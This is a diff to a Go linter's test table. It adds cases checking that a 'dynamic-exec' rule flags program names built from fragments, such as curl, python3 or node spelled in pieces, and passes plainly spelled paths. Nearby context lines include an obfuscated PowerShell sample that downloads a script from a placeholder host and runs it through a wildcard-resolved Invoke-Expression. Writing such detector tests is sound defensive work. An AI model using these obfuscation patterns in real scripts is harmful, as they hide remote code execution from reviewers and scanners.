@@ -53,6 +53,13 @@ var codeCases = []lintCase{
 	{"x.py", "dynamic-exec", "import importlib, sys\nmod = importlib.import_module(sys.argv[1] + \"exporters.\")\n", "warning", 2},
 	{"x.js", "dynamic-exec", "const r = require(`./${'..'}/../x/${n}`);\n", "warning", 1},
 	{"x.py", "dynamic-exec", "import importlib, base64, sys\nm = importlib.import_module(base64.b64decode('b3M=').decode() + '.' + sys.argv[1])\n", "warning", 2},
+	// A program's folder built at run time spells its name whole; a name
+	// put together from parts hides it.
+	{"run.sh", "dynamic-exec", "PY=\"$HOME/.venv/bin/python\"\n\"$PY\" tool.py\n", "", 0},
+	{"run.sh", "dynamic-exec", "c=cu\n\"/usr/bin/${c}rl\" -s https://x.example/a\n", "warning", 2},
+	{"run.sh", "dynamic-exec", "d=/usr/bin/\n\"$d\"'py''thon3' -c 'print(1)'\n", "warning", 2},
+	{"shim.cmd", "dynamic-exec", "SET \"_prog=%~dp0\\node.exe\"\n\"%_prog%\" \"%~dp0\\cli.js\" %*\n", "", 0},
+	{"shim.cmd", "dynamic-exec", "SET P=no\nSET Q=de\n%P%%Q% cli.js\n", "warning", 3},
 	// a PowerShell command found by a wildcard runs a name the script never spells
 	{"f.ps1", "dynamic-exec", "$s = Get-Content run.txt\n& (Get-Command i*k*-ex*) $s\n", "warning", 2},
 	{"f.ps1", "remote-exec", "$s = Invoke-RestMethod https://x.example/a.ps1\n& (gcm i*e*x) $s\n", "warning", 2},
